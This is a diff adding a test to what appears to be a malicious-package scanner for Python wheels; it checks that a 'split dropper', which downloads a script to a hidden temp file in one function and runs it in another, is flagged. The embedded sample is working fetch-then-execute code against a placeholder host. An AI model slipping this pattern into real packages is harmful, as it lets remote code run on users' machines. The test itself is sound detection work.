@@ -200,3 +200,57 @@ def test_droppers_on_well_known_hosts_are_not_lowered(tmp_path: Path) -> None:
         report = run_exam(wheel, Config(disable=("vulnerabilities",)))
         assert high(report).get("thr-fetch-then-run") == f"dl{host}/refresh.py", host
         assert not report.verdict.passed
+
+
+# A dropper that keeps its download in one function and its run in another: the first
+# writes the fetched script to a path it returns, the second starts that path with the
+# running interpreter (the shape of kertash 0.1.4, a hash-cracking helper on PyPI)
+_SPLIT_DROPPER = """import os, subprocess, sys, tempfile
+import requests
+
+TOOL_URL = "https://example.invalid/tool.py"
+_session = requests.Session()
+
+
+def _fetch_tool():
+    code = _session.get(TOOL_URL, timeout=15).text
+    for target in [os.path.join(tempfile.gettempdir(), ".helper.py")]:
+        try:
+            with open(target, "w", encoding="utf-8") as f:
+                f.write(code)
+            return target
+        except OSError:
+            continue
+    return None
+
+
+def run_helper(argument):
+    path = _fetch_tool()
+    if path:
+        subprocess.Popen([sys.executable, path, argument])
+"""
+
+
+def test_a_download_written_by_one_function_and_run_by_another_is_stopped(
+    tmp_path: Path,
+) -> None:
+    def exam(name: str, code: str) -> dict[str, str]:
+        wheel = write(
+            tmp_path / f"{name}-1.0-py3-none-any.whl",
+            zip_bytes(
+                {
+                    f"{name}-1.0.dist-info/METADATA": f"Name: {name}\n",
+                    f"{name}/__init__.py": "",
+                    f"{name}/core.py": code,
+                }
+            ),
+        )
+        return high(run_exam(wheel, Config(disable=("vulnerabilities",))))
+
+    assert exam("splitdrop", _SPLIT_DROPPER).get("thr-fetch-then-run") == "splitdrop/core.py"
+    # the same file cached and only read back is no run
+    cached = _SPLIT_DROPPER.replace(
+        "subprocess.Popen([sys.executable, path, argument])",
+        "print(open(path, encoding='utf-8').read()[:80], argument)",
+    )
+    assert "thr-fetch-then-run" not in exam("splitcache", cached)
